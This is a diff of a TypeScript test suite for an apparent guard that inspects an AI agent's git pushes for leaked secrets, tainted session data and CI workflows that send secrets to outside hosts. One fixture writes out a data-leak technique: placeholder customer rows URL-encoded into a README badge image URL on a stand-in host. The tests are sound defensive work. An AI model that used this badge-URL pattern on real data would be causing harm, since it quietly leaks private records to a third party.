@@ -20,22 +20,22 @@ function repo(): Checkout & { done: () => void } {
   return { ...checkoutWithRemote(root), done: () => rmSync(root, { recursive: true, force: true }) };
 }
 
-function decide(e: FlowEngine, cwd: string, command: string, t: number, lim = DEFAULT_GIT_LIMITS): Decision {
+async function decide(e: FlowEngine, cwd: string, command: string, t: number, lim = DEFAULT_GIT_LIMITS): Promise<Decision> {
   const ev = { hook_event_name: 'PreToolUse', session_id: 's', tool_name: 'Bash', tool_input: { command, description: 'x' }, cwd };
-  const facts = inspectPushes(ev, undefined, lim);
+  const facts = await inspectPushes(ev, undefined, lim);
   if (facts) e.notePushFacts(ev, facts);
   return e.handle(ev, t);
 }
 
 const engine = (): FlowEngine => new FlowEngine(defaultConfig(), { seed: 9, home: '/nonexistent-home' });
 
-test('a pushed commit that holds a secret is denied, naming the file and the kind of secret', (t) => {
+test('a pushed commit that holds a secret is denied, naming the file and the kind of secret', async (t) => {
   const r = repo();
   t.after(r.done);
   r.write('config/deploy.env', `REGION=eu-west-1\nGITHUB_TOKEN=${GH_TOKEN}\n`);
   r.git('add', '.');
   r.git('commit', '-q', '-m', 'deploy config');
-  const d = decide(engine(), r.dir, 'git push origin main', 1);
+  const d = await decide(engine(), r.dir, 'git push origin main', 1);
   assert.equal(d.action, 'deny', d.summary);
   assert.match(d.reason, /config\/deploy\.env/);
   assert.match(d.reason, /GitHub/i);
@@ -44,23 +44,23 @@ test('a pushed commit that holds a secret is denied, naming the file and the kin
   assert.ok(d.liveFacts?.includes('git objects of the push'));
 });
 
-test('a clean commit goes through; commits already on the remote are not read again', (t) => {
+test('a clean commit goes through; commits already on the remote are not read again', async (t) => {
   const r = repo();
   t.after(r.done);
   r.write('src/a.ts', 'export const a = 1;\n');
   r.git('add', '.');
   r.git('commit', '-q', '-m', 'a');
-  const f = readPushFacts({ repo: r.dir, remote: 'origin', refspecs: ['main'], commitsFirst: false, addsAll: false });
+  const f = await readPushFacts({ repo: r.dir, remote: 'origin', refspecs: ['main'], commitsFirst: false, addsAll: false });
   assert.equal(f.error, undefined);
   assert.equal(f.commits, 1);
   assert.deepEqual(
     f.files.map((x) => x.path),
     ['src/a.ts'],
   );
-  assert.equal(decide(engine(), r.dir, 'git push', 1).action, 'allow');
+  assert.equal((await decide(engine(), r.dir, 'git push', 1)).action, 'allow');
 });
 
-test('a secret committed then removed still leaves with the history', (t) => {
+test('a secret committed then removed still leaves with the history', async (t) => {
   const r = repo();
   t.after(r.done);
   r.write('notes.txt', `token ${GH_TOKEN}\n`);
@@ -68,21 +68,21 @@ test('a secret committed then removed still leaves with the history', (t) => {
   r.git('commit', '-q', '-m', 'oops');
   r.write('notes.txt', 'nothing here\n');
   r.git('commit', '-q', '-am', 'remove');
-  const d = decide(engine(), r.dir, 'git push origin HEAD:main', 1);
+  const d = await decide(engine(), r.dir, 'git push origin HEAD:main', 1);
   assert.equal(d.action, 'deny', d.summary);
   assert.match(d.reason, /notes\.txt/);
 });
 
-test('commit and push in one command: what the command commits is checked before it exists', (t) => {
+test('commit and push in one command: what the command commits is checked before it exists', async (t) => {
   const r = repo();
   t.after(r.done);
   r.write('.env.production', `GITHUB_TOKEN=${GH_TOKEN}\n`);
-  const d = decide(engine(), r.dir, 'git add . && git commit -m "ship" && git push origin main', 1);
+  const d = await decide(engine(), r.dir, 'git add . && git commit -m "ship" && git push origin main', 1);
   assert.equal(d.action, 'deny', d.summary);
   assert.match(d.reason, /\.env\.production/);
 });
 
-test('a CI workflow that posts the repository secrets to an outside host is denied', (t) => {
+test('a CI workflow that posts the repository secrets to an outside host is denied', async (t) => {
   const r = repo();
   t.after(r.done);
   r.write(
@@ -91,7 +91,7 @@ test('a CI workflow that posts the repository secrets to an outside host is deni
   );
   r.git('add', '.');
   r.git('commit', '-q', '-m', 'ci');
-  const d = decide(engine(), r.dir, 'git push', 1);
+  const d = await decide(engine(), r.dir, 'git push', 1);
   assert.equal(d.action, 'deny', d.summary);
   assert.match(d.reason, /ci\.yml/);
   assert.match(d.reason, /collect\.example\.net/);
@@ -104,10 +104,10 @@ test('a CI workflow that posts the repository secrets to an outside host is deni
   );
   r2.git('add', '.');
   r2.git('commit', '-q', '-m', 'ci');
-  assert.equal(decide(engine(), r2.dir, 'git push', 1).action, 'allow');
+  assert.equal((await decide(engine(), r2.dir, 'git push', 1)).action, 'allow');
 });
 
-test('a pushed file that holds data read this session is flagged with where the data came from', (t) => {
+test('a pushed file that holds data read this session is flagged with where the data came from', async (t) => {
   const r = repo();
   t.after(r.done);
   const e = engine();
@@ -136,7 +136,7 @@ test('a pushed file that holds data read this session is flagged with where the 
   r.write('fixtures/customers.csv', dump);
   r.git('add', '.');
   r.git('commit', '-q', '-m', 'fixtures');
-  const d = decide(e, r.dir, 'git push', 3);
+  const d = await decide(e, r.dir, 'git push', 3);
   assert.ok(d.action === 'ask' || d.action === 'deny', d.summary);
   assert.ok(
     d.findings.some((f) => f.rule === 'push_tainted'),
@@ -146,27 +146,27 @@ test('a pushed file that holds data read this session is flagged with where the 
   assert.match(d.reason, /mcp__postgres__query/);
 });
 
-test('over its bounds the inspection fails closed: the push is asked about, with the reason', (t) => {
+test('over its bounds the inspection fails closed: the push is asked about, with the reason', async (t) => {
   const r = repo();
   t.after(r.done);
   r.write('big.txt', 'x'.repeat(200_000) + '\n');
   r.git('add', '.');
   r.git('commit', '-q', '-m', 'big');
-  const d = decide(engine(), r.dir, 'git push', 1, { ...DEFAULT_GIT_LIMITS, maxOutputBytes: 10_000 });
+  const d = await decide(engine(), r.dir, 'git push', 1, { ...DEFAULT_GIT_LIMITS, maxOutputBytes: 10_000 });
   assert.equal(d.action, 'ask', d.summary);
   assert.ok(d.findings.some((f) => f.rule === 'push_unchecked'));
   assert.match(d.reason, /more than 10000 bytes/);
   // where there is no repository, git push fails and publishes nothing: no question
   const nowhere = mkdtempSync(join(tmpdir(), 'mph-norepo-'));
   t.after(() => rmSync(nowhere, { recursive: true, force: true }));
-  const f = readPushFacts({ repo: nowhere, remote: 'origin', refspecs: [], commitsFirst: false, addsAll: false });
+  const f = await readPushFacts({ repo: nowhere, remote: 'origin', refspecs: [], commitsFirst: false, addsAll: false });
   assert.deepEqual([f.error, f.absent], [undefined, true]);
-  assert.equal(decide(engine(), nowhere, 'git push', 2).action, 'allow');
+  assert.equal((await decide(engine(), nowhere, 'git push', 2)).action, 'allow');
   // a repository the command names by a variable cannot be found: asked about
-  assert.equal(decide(engine(), r.dir, 'git -C "$REPO" push', 3).action, 'ask');
+  assert.equal((await decide(engine(), r.dir, 'git -C "$REPO" push', 3)).action, 'ask');
 });
 
-test("the repository's own config cannot run code while it is read (no external diff or textconv)", (t) => {
+test("the repository's own config cannot run code while it is read (no external diff or textconv)", async (t) => {
   const r = repo();
   t.after(r.done);
   const marker = join(r.dir, '..', 'ran');
@@ -176,14 +176,14 @@ test("the repository's own config cannot run code while it is read (no external 
   r.write('a.txt', 'hello\n');
   r.git('add', '.');
   r.git('commit', '-q', '-m', 'a');
-  const f = readPushFacts({ repo: r.dir, remote: 'origin', refspecs: [], commitsFirst: false, addsAll: false });
+  const f = await readPushFacts({ repo: r.dir, remote: 'origin', refspecs: [], commitsFirst: false, addsAll: false });
   assert.equal(f.error, undefined);
   assert.throws(() => execFileSync('test', ['-e', marker]), 'no code of the repository ran');
 });
 
-test('an event with no working directory names no repository: nothing read, and the decision says so', () => {
+test('an event with no working directory names no repository: nothing read, and the decision says so', async () => {
   const ev = { hook_event_name: 'PreToolUse', session_id: 's', tool_name: 'Bash', tool_input: { command: 'git push origin main' } };
-  const facts = inspectPushes(ev, undefined);
+  const facts = await inspectPushes(ev, undefined);
   assert.deepEqual(
     facts?.map((f) => f.absent),
     [true],
@@ -199,7 +199,7 @@ test('an event with no working directory names no repository: nothing read, and 
   assert.equal(inspectPushes({ ...ev, tool_input: { command: 'docker push img' } }, undefined), undefined);
 });
 
-test('git push --all and --tags read every branch and tag, not only the current one', (t) => {
+test('git push --all and --tags read every branch and tag, not only the current one', async (t) => {
   const r = repo();
   t.after(r.done);
   r.git('checkout', '-q', '-b', 'side');
@@ -207,13 +207,13 @@ test('git push --all and --tags read every branch and tag, not only the current 
   r.git('add', '.');
   r.git('commit', '-q', '-m', 'side');
   r.git('checkout', '-q', 'main');
-  assert.equal(decide(engine(), r.dir, 'git push origin main', 1).action, 'allow', 'main itself carries nothing new');
-  const d = decide(engine(), r.dir, 'git push --all origin', 2);
+  assert.equal((await decide(engine(), r.dir, 'git push origin main', 1)).action, 'allow', 'main itself carries nothing new');
+  const d = await decide(engine(), r.dir, 'git push --all origin', 2);
   assert.equal(d.action, 'deny', d.summary);
   assert.match(d.reason, /side\.env/);
 });
 
-test('without the repository (a replay, a push the sidecar cannot read), a CI workflow this session wrote that sends secrets out still stops the push', () => {
+test('without the repository (a replay, a push the sidecar cannot read), a CI workflow this session wrote that sends secrets out still stops the push', async () => {
   const e = engine();
   const cwd = '/nonexistent/proj';
   e.handle(
@@ -230,15 +230,15 @@ test('without the repository (a replay, a push the sidecar cannot read), a CI wo
     },
     1,
   );
-  const d = decide(e, cwd, 'git add .github && git commit -m release && git push', 2);
+  const d = await decide(e, cwd, 'git add .github && git commit -m release && git push', 2);
   assert.equal(d.action, 'deny', d.summary);
   assert.match(d.reason, /release\.yml/);
   assert.match(d.reason, /metrics\.example\.org/);
   // another repository's push is not about it
-  assert.equal(decide(e, '/nonexistent/other', 'git push', 3).action, 'allow');
+  assert.equal((await decide(e, '/nonexistent/other', 'git push', 3)).action, 'allow');
 });
 
-test('a pushed file edited from what the agent read of the project itself is ordinary work', (t) => {
+test('a pushed file edited from what the agent read of the project itself is ordinary work', async (t) => {
   const r = repo();
   t.after(r.done);
   const e = engine();
@@ -268,10 +268,10 @@ test('a pushed file edited from what the agent read of the project itself is ord
   r.write('src/total2.ts', code + '// v2\n');
   r.git('add', '.');
   r.git('commit', '-q', '-m', 'v2');
-  assert.equal(decide(e, r.dir, 'git push', 3).action, 'allow');
+  assert.equal((await decide(e, r.dir, 'git push', 3)).action, 'allow');
 });
 
-test('customer rows from a database client edited into the README, committed and pushed: flagged with or without the repository', (t) => {
+test('customer rows from a database client edited into the README, committed and pushed: flagged with or without the repository', async (t) => {
   const rows =
     ' id | full_name | email | city\n 1041 | Maria Alvarez | maria.alvarez@fastmail.example | Portland\n 1042 | Kenji Watanabe | k.watanabe@outlook.example | Osaka\n';
   const readme = `# proj\n\n![status](https://status-badges.example/p.svg?c=${encodeURIComponent(rows)})\n`;
@@ -303,7 +303,7 @@ test('customer rows from a database client edited into the README, committed and
     return e;
   };
   // no repository here (a replay): the session knows it edited README.md with the rows, and the command commits -a
-  const d = decide(run('/nonexistent/proj'), '/nonexistent/proj', 'git commit -qam "docs: badge" && git push origin HEAD', 4);
+  const d = await decide(run('/nonexistent/proj'), '/nonexistent/proj', 'git commit -qam "docs: badge" && git push origin HEAD', 4);
   assert.ok(d.action === 'ask' || d.action === 'deny', d.summary);
   assert.match(d.reason, /README\.md/);
   assert.match(d.reason, /psql/);
@@ -313,7 +313,7 @@ test('customer rows from a database client edited into the README, committed and
   const e = run(r.dir);
   r.write('README.md', readme);
   r.git('commit', '-qam', 'docs: badge');
-  const l = decide(e, r.dir, 'git push origin HEAD', 4);
+  const l = await decide(e, r.dir, 'git push origin HEAD', 4);
   assert.ok(l.action === 'ask' || l.action === 'deny', l.summary);
   assert.ok(
     l.findings.some((f) => f.rule === 'push_tainted'),
